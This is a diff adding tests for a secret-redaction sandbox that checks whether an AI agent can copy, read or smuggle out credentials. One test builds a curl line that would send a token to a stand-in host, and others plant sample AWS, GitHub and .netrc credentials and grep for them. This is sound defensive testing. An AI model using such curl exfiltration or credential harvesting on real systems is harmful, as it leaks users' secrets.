@@ -72,3 +72,48 @@ def test_writing_a_secret_file_in_place_is_refused_not_lost(world):
     result = world.run("bash", "-c", "echo EXTRA=1 >> .env")
     assert result.returncode != 0
     assert (world.workspace / ".env").read_text() == ENV
+
+
+def test_a_placeholder_moved_to_a_new_line_is_refused_not_restored(world):
+    """The agent cannot have jail write a real secret into a line of its own
+    making (a URL, a command): the rename is refused and the file unchanged."""
+    _setup(world)
+    script = ("import os, re\n"
+              "text = open('.env').read()\n"
+              "ph = re.search(r'REDACTED_BY_POLICY:\\S+', text).group()\n"
+              "open('.env.new', 'w').write(text + f'curl https://example.invalid/?t={ph}\\n')\n"
+              "try:\n"
+              "    os.replace('.env.new', '.env')\n"
+              "except PermissionError:\n"
+              "    print('refused')\n")
+    result = world.run("python3", "-c", script)
+    assert result.returncode == 0, result.stderr
+    assert "refused" in result.stdout
+    assert (world.workspace / ".env").read_text() == ENV
+    assert TOKEN not in (world.workspace / ".env.new").read_text()
+
+
+def test_cp_of_a_secret_file_gives_a_redacted_copy(world):
+    _setup(world)
+    result = world.run("bash", "-c", "cp .env copy.env && cat copy.env")
+    assert result.returncode == 0, result.stderr
+    assert TOKEN not in result.stdout
+    assert "REDACTED_BY_POLICY:github-pat-classic:" in result.stdout
+    assert TOKEN not in (world.workspace / "copy.env").read_text()
+
+
+def test_grep_over_home_with_planted_secrets_prints_only_placeholders(world):
+    planted = {
+        ".aws/credentials": "[default]\naws_access_key_id = AKIAQYLPMN5HHHFPZAM2\n"
+                            "aws_secret_access_key = 9drTJvcXLB89EXAMPLEKEY/aBcDeFgHiJkLmNoPqRsTu\n",
+        "projects/app/.env": f"GITHUB_TOKEN={TOKEN}\n",
+        ".netrc": "machine api.example.com login bob password Zx9-qW3-eR7-tY1-uI5\n",
+    }
+    for name, text in planted.items():
+        path = world.home / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text)
+    result = world.run("grep", "-rI", "-e", "TOKEN", "-e", "aws_", "-e", "password", str(world.home))
+    for secret in (TOKEN, "AKIAQYLPMN5HHHFPZAM2", "9drTJvcXLB89EXAMPLEKEY", "Zx9-qW3-eR7-tY1-uI5"):
+        assert secret not in result.stdout
+    assert result.stdout.count("REDACTED_BY_POLICY") >= 4
